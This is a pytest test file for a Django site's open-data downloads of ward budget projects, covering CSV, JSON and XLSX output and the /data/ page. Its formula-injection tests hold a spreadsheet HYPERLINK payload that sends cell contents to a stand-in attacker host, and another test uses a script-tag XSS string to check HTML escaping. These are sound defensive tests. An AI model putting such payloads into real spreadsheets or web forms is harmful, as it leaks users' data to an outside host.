"""Open data: the CSV (UTF-8 with BOM) and JSON of a year, one row per project; formula
injection and control characters; the /data/ page and the links to the downloads."""

import csv
import io
import json

import pytest
from openpyxl import load_workbook

from budgets import exports
from budgets.exports import clean_text, neutralise
from budgets.models import Project
from tests.factories import FundFactory, ProjectFactory, StageFigureFactory
from wards.models import Stage, Ward

pytestmark = pytest.mark.django_db

COLUMNS = [
    "fiscal_year",
    "ward",
    "ward_slug",
    "pillar",
    "fund",
    "number",
    "name",
    "summary",
    "is_new",
    "project_id",
    "previous_project_id",
    "initial_yen",
    "initial_status",
    "september_yen",
    "september_status",
    "february_yen",
    "february_status",
    "settlement_yen",
    "settlement_status",
]
STAGE_KEYS = ["initial", "september", "february", "settlement"]
MACHI, FUKKO = "まちづくり推進経費", "復興支援自治推進経費"

# 令和3年度 北区 (yen): name: (number, pillar, fund, four stages).
KITA_2021 = {
    "北区笑顔交流プロジェクト": (
        "①",
        "誰もが楽しく集い、笑顔が広がる「場」の創出",
        MACHI,
        (3_100_000, 3_100_000, 600_000, 100_000),
    ),
    "北区居場所づくりプロジェクト": (
        "②",
        "誰もが楽しく集い、笑顔が広がる「場」の創出",
        MACHI,
        (617_000, 162_000, 162_000, 81_000),
    ),
    "北区健康・支え合いプロジェクト": (
        "③",
        "健康の大切さを知り、お互いを思いやり支え合う気持ちの醸成",
        MACHI,
        (1_582_000, 1_096_000, 1_096_000, 886_000),
    ),
    "北区安全・安心プロジェクト": (
        "④",
        "健康の大切さを知り、お互いを思いやり支え合う気持ちの醸成",
        MACHI,
        (3_015_000, 2_233_000, 2_233_000, 1_527_000),
    ),
    "自主自立のまちづくり推進プロジェクト": (
        "⑤",
        "地域での活動を支援",
        MACHI,
        (6_721_000, 3_870_000, 3_570_000, 2_307_000),
    ),
    "「北区の魅力」発信事業！": (
        "⑥",
        "地域を支える土台づくり",
        MACHI,
        (1_909_000, 1_909_000, 1_909_000, 1_909_000),
    ),
    "緊急課題対応費": (
        "⑦",
        "地域を支える土台づくり",
        MACHI,
        (1_746_000, 1_746_000, 1_746_000, 508_000),
    ),
    "北区まちづくり懇話会": (
        "⑧",
        "地域を支える土台づくり",
        MACHI,
        (310_000, 310_000, 310_000, 42_000),
    ),
    "避難所運営委員会設立支援及び活動支援助成事業": (
        "",
        "防災・減災コミュニティ形成",
        FUKKO,
        (1_200_000, 1_200_000, 1_200_000, 900_000),
    ),
}

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"詳細")',
    "+1",
    "-1",
    "@SUM(A1:A2)",
    "\tx",
    "\rx",
    "=1+1",
]
# Control characters a database stores but a workbook cannot (no NUL: PostgreSQL refuses it).
CONTROL = "北区\x01事業\x08の\x0b名\x0c前\x1f"


def _csv(client, year=2021):
    response = client.get(f"/{year}/data.csv")
    assert response.status_code == 200
    response.body = response.getvalue()  # streamed: it can be read once
    return response, list(csv.reader(io.StringIO(response.body.decode("utf-8-sig"))))


def _csv_dicts(client, year=2021) -> list[dict]:
    _, rows = _csv(client, year)
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def _json(client, year=2021) -> dict:
    response = client.get(f"/{year}/data.json")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json; charset=utf-8"
    return json.loads(response.getvalue().decode("utf-8"))


# --- CSV ------------------------------------------------------------------------------------------


def test_csv_and_json_are_streamed_in_chunks_not_built_whole(seeded, client, monkeypatch):
    monkeypatch.setattr(exports, "_CHUNK_ROWS", 5)
    for url in ("/2021/data.csv", "/2021/data.json"):
        response = client.get(url)
        assert response.streaming, url
        chunks = list(response.streaming_content)
        # 28 projects in rows of 5: the body arrives in pieces as it is written.
        assert len(chunks) >= 6, (url, len(chunks))


def test_csv_is_utf8_with_bom_and_a_header(seeded, client):
    response, rows = _csv(client)
    assert response.body.startswith(b"\xef\xbb\xbf")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="kumamachi_2021.csv"'
    assert rows[0] == COLUMNS
    assert b"\r\n" in response.body  # RFC 4180 line ends
    # One row per project of the year: 北区 9, 中央区 19.
    assert len(rows) == 1 + Project.objects.filter(fiscal_year_id=2021).count() == 1 + 28


def test_csv_rows_for_kita_2021(seeded, client):
    rows = [row for row in _csv_dicts(client) if row["ward_slug"] == "kita"]
    assert [row["name"] for row in rows] == list(KITA_2021)
    pks = dict(Project.objects.filter(fiscal_year_id=2021).values_list("name", "pk"))
    for row in rows:
        number, pillar, fund, figures = KITA_2021[row["name"]]
        assert row["fiscal_year"] == "2021"
        assert row["ward"] == "北区"
        assert row["pillar"] == pillar
        assert row["fund"] == fund
        assert row["number"] == number
        assert row["is_new"] == "false"
        assert row["project_id"] == str(pks[row["name"]])
        assert row["previous_project_id"] == ""
        for key, amount in zip(STAGE_KEYS, figures, strict=True):
            assert row[f"{key}_yen"] == str(amount), (row["name"], key)
            assert row[f"{key}_status"] == "entered"


def test_csv_states_not_entered_no_budget_entered_and_unpublished(seeded, client):
    rows = {row["name"]: row for row in _csv_dicts(client)}
    # 中央区: only the initial budgets were entered; two projects have no budget (―).
    dash = rows["企業資源活用によるまちづくり事業"]
    assert (dash["initial_yen"], dash["initial_status"]) == ("", "no_budget")
    assert dash["number"] == ""
    entered = rows["地域リーダー応援事業"]
    assert (entered["initial_yen"], entered["initial_status"]) == ("1500000", "entered")
    for key in STAGE_KEYS[1:]:
        assert (entered[f"{key}_yen"], entered[f"{key}_status"]) == ("", "not_entered")
    assert rows["地域デビュー応援事業"]["is_new"] == "true"
    # 令和6年度: only the initial budget is published.
    rows_2024 = {row["name"]: row for row in _csv_dicts(client, 2024)}
    later = rows_2024["「北区の魅力！」発信事業"]
    assert (later["initial_yen"], later["initial_status"]) == ("1181000", "entered")
    for key in STAGE_KEYS[1:]:
        assert (later[f"{key}_yen"], later[f"{key}_status"]) == ("", "unpublished")
    earlier = Project.objects.get(fiscal_year_id=2021, name="「北区の魅力」発信事業！")
    assert later["previous_project_id"] == str(earlier.pk)


def test_csv_unknown_year_is_404(seeded, client):
    assert client.get("/2030/data.csv").status_code == 404
    assert client.get("/2030/data.json").status_code == 404


# --- JSON -----------------------------------------------------------------------------------------


def test_json_structure(seeded, client):
    document = _json(client)
    assert set(document) == {
        "fiscal_year",
        "label",
        "published_stage",
        "licence",
        "source",
        "generated_at",
        "columns",
        "projects",
    }
    assert document["fiscal_year"] == 2021
    assert document["label"] == "令和3年度 (2021年度)"
    assert document["published_stage"] == Stage.SETTLEMENT
    assert document["licence"] == "CC BY 4.0"
    assert document["columns"] == COLUMNS
    assert len(document["projects"]) == 28
    for project in document["projects"]:
        assert list(project) == COLUMNS
        assert isinstance(project["fiscal_year"], int)
        assert isinstance(project["is_new"], bool)
        assert isinstance(project["project_id"], int)
        for key in STAGE_KEYS:
            amount, status = project[f"{key}_yen"], project[f"{key}_status"]
            assert status in {"entered", "no_budget", "not_entered", "unpublished"}
            # A number in yen where entered, else null (never "" or 0).
            if status == "entered":
                assert isinstance(amount, int) and not isinstance(amount, bool)
            else:
                assert amount is None, (project["name"], key, amount)


def test_json_matches_the_csv_row_for_row(seeded, client):
    document = _json(client)
    rows = _csv_dicts(client)
    assert [p["project_id"] for p in document["projects"]] == [int(r["project_id"]) for r in rows]
    for project, row in zip(document["projects"], rows, strict=True):
        for column in COLUMNS:
            value = project[column]
            text = "" if value is None else str(value).lower() if isinstance(value, bool) else value
            assert str(text) == row[column], (project["name"], column)


def test_json_kita_2021_and_states(seeded, client):
    projects = {p["name"]: p for p in _json(client)["projects"]}
    for name, (number, pillar, fund, figures) in KITA_2021.items():
        project = projects[name]
        assert (project["ward"], project["ward_slug"]) == ("北区", "kita")
        # No printed number: null in JSON (an empty cell in the CSV).
        assert (project["number"], project["pillar"], project["fund"]) == (
            number or None,
            pillar,
            fund,
        )
        assert [project[f"{k}_yen"] for k in STAGE_KEYS] == list(figures)
        assert project["is_new"] is False
    dash = projects["中央区広報広聴事業"]
    assert (dash["initial_yen"], dash["initial_status"]) == (None, "no_budget")
    assert (dash["september_yen"], dash["september_status"]) == (None, "not_entered")
    assert dash["is_new"] is True
    later = {p["name"]: p for p in _json(client, 2024)["projects"]}["北区こどもまつりの開催"]
    assert (later["september_yen"], later["september_status"]) == (None, "unpublished")


# --- Formula injection and control characters ---------------------------------------------------


@pytest.fixture
def hostile(seeded):
    """Projects of 令和3年度 北区 whose name and summary start like a formula."""
    kita = Ward.objects.get(slug="kita")
    fund = FundFactory(code="machizukuri")
    projects = []
    for position, name in enumerate([*INJECTIONS, CONTROL, "\x01=1+1"], start=90):
        project = ProjectFactory(
            ward=kita,
            fiscal_year_id=2021,
            fund=fund,
            name=name,
            summary=name,
            number=f"-{position}",
            position=position,
        )
        StageFigureFactory(project=project, stage=Stage.INITIAL, amount=1000)
        projects.append(project)
    return projects


@pytest.mark.parametrize("value", [*INJECTIONS, "=", "+", "-", "@"])
def test_neutralise_prefixes_formula_triggers(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["北区", "1", "'=x", " =x", "１＋１", ""])
def test_neutralise_leaves_other_text_alone(value):
    assert neutralise(value) == value


def test_clean_text_drops_control_characters():
    assert clean_text(CONTROL) == "北区事業の名前"
    assert clean_text("a\x00b\x7fc") == "ab\x7fc"
    assert clean_text("行1\n行2\tタブ\r") == "行1\n行2\tタブ\r"  # ordinary whitespace stays
    assert clean_text(None) == ""


def test_csv_neutralises_formula_like_text(hostile, client):
    rows = {row["project_id"]: row for row in _csv_dicts(client)}
    for project in hostile[: len(INJECTIONS)]:
        row = rows[str(project.pk)]
        assert row["name"] == "'" + project.name, row["name"]
        assert row["summary"] == "'" + project.name
        assert row["number"] == "'" + project.number  # "-90" starts with -
    # Control characters go first, so they cannot hide a leading "=".
    assert rows[str(hostile[-1].pk)]["name"] == "'=1+1"
    assert rows[str(hostile[-2].pk)]["name"] == "北区事業の名前"
    # Numbers stay numbers.
    assert rows[str(hostile[0].pk)]["initial_yen"] == "1000"


def test_json_keeps_names_verbatim(hostile, client):
    """JSON is not read by a spreadsheet: no prefix, and control characters are escaped."""
    projects = {p["project_id"]: p for p in _json(client)["projects"]}
    for project in hostile:
        assert projects[project.pk]["name"] == project.name


@pytest.mark.parametrize(
    "url, sheet",
    [
        ("/2021/export.xlsx", "北区"),
        ("/2021/kita/export.xlsx", "北区"),
        ("/export.xlsx?from=2021&to=2021", "年度比較"),
    ],
)
def test_xlsx_stores_formula_like_text_as_strings(hostile, client, url, sheet):
    response = client.get(url)
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.content))[sheet]
    cells = {
        cell.value: cell
        for row in ws.iter_rows(min_row=4)
        for cell in row
        if isinstance(cell.value, str)
    }
    for project in hostile[: len(INJECTIONS)]:
        # XML reads a stored carriage return back as a line feed.
        cell = cells[project.name.replace("\r", "\n")]
        assert cell.data_type == "s", (project.name, cell.data_type)
    assert "北区事業の名前" in cells
    assert cells["=1+1"].data_type == "s"
    assert cells[f"-{hostile[0].position}"].data_type == "s"  # the number column
    formulas = [c.value for c in ws.iter_rows() for c in c if c.data_type == "f"]
    assert all(f.startswith(("=SUM(", "=IF(", "=D", "=E", "=F", "=G")) for f in formulas)


def test_control_characters_never_crash_a_download(hostile, client):
    for url in (
        "/2021/data.csv",
        "/2021/data.json",
        "/2021/export.xlsx",
        "/2021/kita/export.xlsx",
        "/export.xlsx?from=2021&to=2024",
        "/2021/kita/",
        f"/2021/kita/{hostile[-2].pk}/",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        assert response.getvalue(), url  # a streamed download fails while it is sent


def test_html_in_names_is_escaped_on_the_ward_page(seeded, client):
    kita = Ward.objects.get(slug="kita")
    project = ProjectFactory(
        ward=kita,
        fiscal_year_id=2021,
        fund=FundFactory(code="machizukuri"),
        name='<script>alert("x")</script>',
        summary="<b>太字</b>",
        number="<i>9</i>",
        position=99,
    )
    StageFigureFactory(project=project, stage=Stage.INITIAL, amount=1000)
    html = client.get("/2021/kita/").content.decode()
    assert "<script>alert" not in html
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in html
    assert "<i>9</i>" not in html
    assert "&lt;i&gt;9&lt;/i&gt;" in html


# --- The /data/ page and the links to it ------------------------------------------------------


def test_data_page_describes_the_columns_and_licence(seeded, client):
    response = client.get("/data/")
    assert response.status_code == 200
    html = response.content.decode()
    for column in COLUMNS:
        if not column.endswith("_status"):
            assert f"<code>{column}</code>" in html, column
    assert "<code>…_status</code>" in html
    for state in ("entered", "no_budget", "not_entered", "unpublished"):
        assert state in html
    assert "UTF-8（BOM付き）" in html
    assert "CC BY 4.0" in html
    assert 'href="https://creativecommons.org/licenses/by/4.0/deed.ja" rel="license"' in html
    for year in (2021, 2024):
        for path in ("data.csv", "data.json", "export.xlsx"):
            assert f'href="/{year}/{path}"' in html, (year, path)


def test_data_page_cross_year_link_spans_the_public_years(seeded, client):
    html = client.get("/data/").content.decode()
    assert 'href="/export.xlsx?from=2021&amp;to=2024"' in html
    assert client.get("/export.xlsx?from=2021&to=2024").status_code == 200


@pytest.mark.parametrize(
    "url, links",
    [
        ("/", ["/2024/export.xlsx", "/2024/data.csv", "/2024/data.json", "/data/"]),
        ("/2021/", ["/2021/export.xlsx", "/2021/data.csv", "/2021/data.json", "/data/"]),
        ("/2021/kita/", ["/2021/kita/export.xlsx", "/2021/data.csv", "/2021/data.json", "/data/"]),
        ("/2021/chuo/", ["/2021/chuo/export.xlsx", "/2021/data.csv", "/2021/data.json"]),
        ("/2024/common/", ["/2024/common/export.xlsx", "/2024/data.csv", "/2024/data.json"]),
    ],
)
def test_public_tables_link_to_the_downloads(seeded, client, url, links):
    html = client.get(url).content.decode()
    assert "このデータをダウンロード" in html
    for link in links:
        assert f'href="{link}"' in html, (url, link)
        assert client.get(link).status_code == 200, link


# --- Fast values and streamed output -------------------------------------------------------


def _table(year=2021):
    from budgets import selectors
    from budgets.tables import OpenDataTable
    from wards.models import FiscalYear

    fiscal_year = FiscalYear.objects.get(year=year)
    return OpenDataTable(
        selectors.open_data_projects(fiscal_year=fiscal_year),
        stages=fiscal_year.published_stages,
    )


@pytest.mark.parametrize("year", [2021, 2024])
def test_iter_values_is_as_values(hostile, year):
    """The downloads' fast path gives what django-tables2 gives, cell for cell and type for
    type (None where a value is empty, "" for a figure not entered)."""
    fast, slow = list(_table(year).iter_values()), list(_table(year).as_values())
    assert fast == slow
    for fast_row, slow_row in zip(fast, slow, strict=True):
        assert [type(v) for v in fast_row] == [type(v) for v in slow_row]


def test_json_is_written_as_json_dumps_would(hostile, client):
    body = client.get("/2021/data.json").getvalue().decode("utf-8")
    assert body == json.dumps(json.loads(body), ensure_ascii=False, indent=1)


def test_json_of_a_year_without_projects(db, client):
    from tests.factories import FiscalYearFactory

    FiscalYearFactory(year=2030, published_stage=Stage.INITIAL)
    body = client.get("/2030/data.json").getvalue().decode("utf-8")
    assert json.loads(body)["projects"] == []
    assert body == json.dumps(json.loads(body), ensure_ascii=False, indent=1)
    _, rows = _csv(client, 2030)
    assert rows == [COLUMNS]


def test_downloads_in_small_chunks_are_the_same(hostile, client, monkeypatch):
    """The CSV and JSON are made a few rows at a time; the joins between chunks add or
    lose nothing."""
    from budgets import exports
    from wards.models import FiscalYear

    fiscal_year = FiscalYear.objects.get(year=2021)
    whole_csv = exports.open_data_csv(fiscal_year)
    whole_json = json.loads(exports.open_data_json(fiscal_year))
    monkeypatch.setattr(exports, "_CHUNK_ROWS", 4)
    chunks = list(exports.open_data_csv_chunks(fiscal_year))
    assert len(chunks) > 3
    assert b"".join(chunks) == whole_csv
    chunked = json.loads(b"".join(exports.open_data_json_chunks(fiscal_year)))
    assert chunked["projects"] == whole_json["projects"]
